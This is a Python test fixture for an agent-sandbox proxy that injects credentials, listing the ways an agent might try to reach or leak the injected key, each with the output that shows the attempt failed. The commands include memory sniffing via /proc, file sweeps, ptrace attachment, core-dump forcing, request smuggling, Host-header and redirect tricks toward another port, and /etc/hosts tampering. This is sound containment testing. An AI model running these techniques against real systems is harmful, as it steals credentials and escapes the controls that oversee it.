"""What an agent may try to get at a credential that the proxy adds, or to have it sent elsewhere: commands for bash, inside.

`$BASE` is the local base URL, `$PROXY` the proxy, `$PORT` the host's own port, `$OTHER` that of another host, which can be reached and must
not get it. Each says what it must print, so that it is known to have run.
"""

from __future__ import annotations

from tests.machines.copies import PYTHON

# Everything of every process that is there: the credential has a form that is known, and is not in this text.
SNIFF = r"""
import os, re
form = re.compile(b"sk-" + b"inject-[0-9a-f]{32}")
looked = refused = 0
found = []
def see(what, text):
    global looked
    looked += 1
    if form.search(text): found.append(what)
def read(path):
    global refused
    try:
        with open(path, "rb") as file: return file.read(1 << 22)
    except OSError:
        refused += 1
        return b""
see("own environment", repr(dict(os.environb)).encode())
for pid in filter(str.isdecimal, os.listdir("/proc")):
    for part in ("environ", "cmdline", "comm", "status", "stat"):
        see(f"{pid} {part}", read(f"/proc/{pid}/{part}"))
    try:
        maps = open(f"/proc/{pid}/maps").read()
        memory = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        refused += 1
        continue
    for line in maps.splitlines():
        place, rights = line.split()[:2]
        begin, end = (int(number, 16) for number in place.split("-"))
        if "rw" in rights and end - begin < 1 << 28:
            try:
                memory.seek(begin)
                see(f"{pid} memory", memory.read(end - begin))
            except (OSError, ValueError, OverflowError): pass
print("looked", looked > 5, "found", sorted(set(found)))
"""

FILES = r"""
import os, re
form = re.compile(b"sk-" + b"inject-[0-9a-f]{32}")
looked, found = 0, []
tops = [os.environ["HOME"], os.environ["REAL_HOME"], os.environ.get("AGENT_SANDBOX_OWN", "/run"), os.getcwd()]
tops += ["/tmp", "/var/tmp", "/run", "/dev/shm", "/app"]
for top in tops:
    for place, _, names in os.walk(top):
        for name in names:
            if not os.path.isfile(f"{place}/{name}"): continue
            try:
                with open(f"{place}/{name}", "rb") as file: text = file.read(1 << 20)
            except OSError: continue
            looked += 1
            if form.search(text): found.append(f"{place}/{name}")
print("looked", looked > 0, "found", found)
"""

CURL = "curl -sS -m 20"
CODE = f'{CURL} -o /dev/null -w "%{{http_code}}\\n"'
RAW = f"{CURL} telnet://${{PROXY#http://}}"  # what is on stdin, as it is
PTRACE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def words(pid):
    try: return open(f"/proc/{pid}/cmdline").read()
    except OSError: return ""
pids = [int(name) for name in os.listdir("/proc") if name.isdecimal()]
ours = [pid for pid in pids if "bin/agent-sandbox" in words(pid) and pid not in (os.getpid(), os.getppid())]
print("of", len(ours))
print("attached", [pid for pid in ours if libc.ptrace(16, pid, 0, 0) == 0])
"""
KILL = """
for p in $(ls /proc | grep '^[0-9]*$'); do
  [ $p = $$ ] || [ $p = $PPID ] || [ $p = 1 ] || ! grep -qs bin/agent-sandbox /proc/$p/cmdline || ! kill -ABRT $p 2>/dev/null || echo killed $p
done
"""
WORDS = ("explain network.inject", "network log", "network log --json", "explain env SITE_KEY", "config show network.inject")
TOLD = "; ".join(f"agent-sandbox {words}" for words in WORDS)
PIECES = f"for at in 0 40 60 80 100; do {CURL} -r $at-$((at+9)) $BASE/pieces/echo | wc -l | grep -c '^[4-9]'; done"
DIRECTLY = '--cacert "$SSL_CERT_FILE" -H "x-api-key: mine"'
TWO_LENGTHS = r"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /inner/echo HTTP/1.1\r\nHost: x\r\n\r\n"
TWICE = r"POST /site/smuggled HTTP/1.1\r\nHost: x\r\n" + TWO_LENGTHS
HOP = r"GET /site/hop/echo HTTP/1.1\r\nHost: x\r\nConnection: close, x-api-key, accept-encoding\r\n\r\n"
OVER_PROXY = 'NO_PROXY=127.0.0.1 no_proxy=127.0.0.1'  # not for localhost, then
UPGRADE = '-H "Connection: Upgrade" -H "Upgrade: websocket"'
ELSEWHERE = '"site@localhost:$OTHER/x" "/localhost:$OTHER/x" "site:$OTHER/x" "site%2f..%2flocalhost:$OTHER"'

ATTEMPTS: dict[str, tuple[str, str]] = {
    "what every process holds": (f"{PYTHON} -I sniff.py", "looked True found []\n"),
    "every file that can be read": (f"{PYTHON} -I files.py", "looked True found []\n"),
    "the file where it is kept": ('cat "$REAL_HOME/keys/site.key" 2>/dev/null || echo refused', "refused\n"),
    "debugging the proxy": (f"{PYTHON} -I -c '{PTRACE}'", "attached []\n"),
    "a core of the proxy": (f"{KILL}\n{CODE} $BASE/alive", "200\n"),
    "what our own words tell": (f"{TOLD}; echo told", "told\n"),
    "errors of the proxy": (
        f"for p in /none /site/%2e%2e/x /site%0d%0aX:1/x; do {CURL} --path-as-is $PROXY$p; done\n"
        f"(printf 'X-Long: '; head -c 40000 /dev/zero | tr '\\0' a) >long; {CURL} -H @long $BASE/long\n"
        f"printf 'GET /site/x HTTP/9.9\\r\\n\\r\\n' | {RAW} | head -1; echo; echo errors", "errors\n",
    ),
    "a host that says it back": (f"for k in echo echo-chunks echo-until-end echo-head; do {CURL} -i $BASE/$k; done; echo; echo said", "said\n"),
    "said back, compressed": (f"{CODE} --compressed -H 'Accept-Encoding: gzip, br' $BASE/echo-gzip", "502\n"),
    "said back, in pieces": (PIECES, "1\n1\n1\n1\n1\n"),
    "said back, by the method": (
        f"for m in TRACE TRACK; do {CODE} -X $m $BASE/trace/echo; done\n"
        f"{CURL} -X POST -H 'X-HTTP-Method-Override: TRACE' $BASE/override/echo | grep -ci override", "400\n400\n0\n",
    ),
    "a redirect, followed": (
        f'{OVER_PROXY} {CODE} -L {DIRECTLY} "$BASE/redirect?https://localhost:$OTHER/redirected"', "200\n",
    ),
    "a redirect to itself, followed": (f'{CODE} -L "$BASE/redirect?$PROXY/site/again"', "200\n"),
    "another host in Host": (f'{CODE} -H "Host: localhost:$OTHER" -H "X-Forwarded-Host: localhost:$OTHER" $BASE/host', "200\n"),
    "another host in the path": (f'for p in {ELSEWHERE}; do {CODE} --path-as-is "$PROXY/$p"; done', "400\n400\n400\n400\n"),
    "another host as a proxied one": (f'{OVER_PROXY} {CODE} "http://localhost:$OTHER/site/plain"', "502\n"),
    "the host itself, past the base URL": (f'{OVER_PROXY} {CODE} {DIRECTLY} "https://localhost:$PORT/direct"', "200\n"),
    "a second request inside one": (f"printf '{TWICE}' | {RAW} | head -1 | tr -d '\\r'", "HTTP/1.1 400 Bad Request\n"),
    "the field taken away again": (f"printf '{HOP}' | {RAW} | grep -c 'x-api-key: [*]*$'", "1\n"),
    "another address for the host": (f"(echo 127.1.1.1 localhost >>/etc/hosts) 2>/dev/null || echo no; {CODE} $BASE/named", "no\n200\n"),
    "an upgrade to another protocol": (f"{CURL} -i {UPGRADE} $BASE/upgrade/echo | grep -ci '^upgrade:'", "0\n"),
    "cookies that are as good": (f'{CURL} -i $BASE/cookie/echo-head | grep -ci "^set-cookie"', "0\n"),
}  # fmt: skip
# The paths at which the host must have seen the credential meanwhile.
USED = (
    "/alive", "/echo", "/echo-chunks", "/echo-until-end", "/echo-head", "/echo-gzip", "/pieces/echo", "/override/echo", "/redirect", "/again",
    "/host", "/hop/echo", "/named", "/upgrade/echo", "/cookie/echo-head",
)  # fmt: skip
